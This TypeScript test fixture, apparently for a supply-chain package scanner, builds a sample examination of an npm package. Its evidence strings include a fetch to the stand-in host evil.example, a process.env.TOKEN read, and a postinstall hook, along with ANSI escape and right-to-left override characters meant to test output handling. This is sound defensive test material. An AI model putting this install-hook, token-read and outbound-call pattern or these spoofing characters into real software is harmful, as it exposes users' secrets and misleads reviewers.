import { digestOf } from '@avow/bytes';
import type { Examination } from '@avow/examine';

const TARGET = 'pkg:npm/%40maker/agent@1.2.3';

/** A result with one of everything: nested and odd paths, hostile text, unread modules, unknowns, findings. */
export const EXAMINATION: Examination = {
  schema: 'avow.examination/1',
  engine: { version: '0.1.0', digest: digestOf('engine') },
  rules: { update: 3, digest: digestOf('rules') },
  product: { target: TARGET, digest: digestOf('product'), size: 123_456 },
  modules: [
    { path: 'lib/a.js', kind: 'script', digest: digestOf('a'), size: 900, state: 'read' },
    {
      path: 'app.asar!/dist/main.js',
      kind: 'script',
      digest: digestOf('main'),
      size: 5_000_000,
      state: 'partly',
      why: { code: 'script.too-deep', message: 'nested more than 1000 deep', at: '0x10' },
    },
    {
      path: 'a b/\u202egnp.js',
      kind: 'script',
      digest: digestOf('odd'),
      size: 12,
      state: 'unread',
      why: { code: 'worker.crashed', message: 'ended the process that read it (SIGSEGV)' },
    },
    { path: 'package.json', kind: 'manifest', digest: digestOf('p'), size: 400, state: 'read' },
  ],
  databases: [],
  features: [
    {
      id: 'f1',
      feature: 'net.http',
      locator: `${TARGET}#lib/a.js @line:12:3`,
      evidence: 'fetch("https://evil.example/\u001b[2J\u202e")',
      recipient: 'evil.example',
      when: 'call',
      rule: 'global.fetch',
    },
    {
      id: 'f2',
      feature: 'net.http',
      locator: `${TARGET}#app.asar!/dist/main.js @line:1:90001`,
      evidence: 'request(u)',
      when: 'load',
      rule: 'node.http.request',
    },
    {
      id: 'f3',
      feature: 'env.named',
      locator: `${TARGET}#lib/a.js @line:3:1`,
      evidence: 'process.env.TOKEN',
      recipient: 'TOKEN',
      when: 'load',
      rule: 'node.process.env',
    },
    {
      id: 'f4',
      feature: 'install.hook',
      locator: `${TARGET}#package.json @line:8:5`,
      evidence: '"postinstall": "node lib/a.js"',
      recipient: 'node lib/a.js',
      when: 'install',
      rule: 'manifest.lifecycle',
    },
  ],
  flows: [],
  noFlows: [{ source: 'env.named', to: 'file', state: 'not-known' }],
  outside: {
    format: 'capa',
    digest: digestOf('capa'),
    words: digestOf('words'),
    rules: 4,
    tried: 3,
    modules: 1,
    matches: [
      {
        rule: 'create TCP socket',
        namespace: 'communication/socket/tcp',
        scope: 'basic block',
        locator: `${TARGET}#lib/a.node @va:0x401000`,
        within: 'connectTo',
        grounds: [{ what: 'os linux' }, { what: 'api socket', address: '0x401020' }],
        attack: ['T1095'],
        mbc: ['C0001.011'],
        feature: 'f4',
      },
    ],
    doubtful: [{ rule: 'parse credit card information', places: 2, why: 'any parser matches' }],
    left: 0,
    unsupported: [
      { name: 'find in \u202e.NET', file: 'a.yml', state: 'unsupported', lacks: ['format dotnet'] },
    ],
    faults: [{ file: 'b.yml', line: 3, column: 5, message: 'not an integer: \u001b[2J' }],
  },
  unknowns: [
    {
      feature: 'code.load',
      locator: `${TARGET}#lib/a.js @line:20:5`,
      why: { code: 'observe.computed-module', message: 'require(x): what is loaded is computed' },
    },
  ],
  findings: [
    { id: 'n1', kind: 'undeclared', of: 'f1', rank: 'high' },
    { id: 'n2', kind: 'undeclared', of: 'f4', rank: 'medium' },
  ],
  coverage: {
    bytes: 5_001_312,
    bytesRead: 5_001_300,
    modules: 4,
    modulesRead: 3,
    records: 0,
    recordsUnderstood: 0,
  },
  answer: 'incomplete',
};
